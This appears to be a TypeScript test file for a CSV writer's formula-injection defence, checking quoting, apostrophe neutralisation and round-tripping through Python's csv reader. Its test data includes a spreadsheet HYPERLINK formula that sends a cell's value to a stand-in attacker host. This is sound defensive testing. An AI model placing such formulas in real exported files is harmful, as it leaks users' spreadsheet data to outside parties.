import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import { csvField, formatCsv, neutraliseCsvFormula, restoreCsvCell } from '../../src/csv/index.ts';

/** Python's csv module: an independent reader of what we write (python3 is a test dependency here). */
function readWithPython(text: string): string[][] {
  const script = [
    'import csv, io, json, sys',
    "data = sys.stdin.buffer.read().decode('utf-8')",
    "print(json.dumps(list(csv.reader(io.StringIO(data, newline='')))))",
  ].join('\n');
  return JSON.parse(execFileSync('python3', ['-c', script], { input: text, encoding: 'utf8' }));
}

const hostile = [
  'plain',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTab first',
  '\rCR first',
  "'=already quoted",
  "''+twice",
  "'just an apostrophe",
  'bare\nline feed',
  'bare\rcarriage return',
  'crlf\r\ninside',
  'a,comma',
  'a "quote"',
  '"',
  '',
  ' spaces around ',
  'émoji 🎉 and ünïcode',
  '{"json":["a,b","c\\nd"]}',
  '1-2',
];

test('every field reads back through Python csv as written, neutralised cells with their leading quote', () => {
  const rows = [hostile, [...hostile].reverse()];
  const header = hostile.map((_, i) => `c${i}`);
  const read = readWithPython(formatCsv(rows, header));
  assert.equal(read.length, 3, 'no forged rows');
  assert.deepEqual(read[0], header);
  assert.deepEqual(
    read.slice(1),
    rows.map((row) => row.map(neutraliseCsvFormula)),
  );
});

test('formula cells get a leading quote (OWASP), others do not; restoreCsvCell undoes it exactly', () => {
  for (const value of ['=1', '+1', '-1', '@x', '\tx', '\rx', "'=x", "''-x"])
    assert.equal(neutraliseCsvFormula(value), `'${value}`, JSON.stringify(value));
  for (const value of ['1-2', "'x", 'a=b', '', 'x\n=y']) assert.equal(neutraliseCsvFormula(value), value);
  for (const value of hostile) assert.equal(restoreCsvCell(neutraliseCsvFormula(value)), value);
});

test('a field holding a line break, quote or comma is quoted; a bare LF never ends a record unquoted', () => {
  assert.equal(csvField('a\nb'), '"a\nb"');
  assert.equal(csvField('a\rb'), '"a\rb"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('\rx'), `"'\rx"`);
  assert.equal(csvField('plain'), 'plain');
  assert.equal(formatCsv([['a', 'b']]), 'a,b\r\n');
});
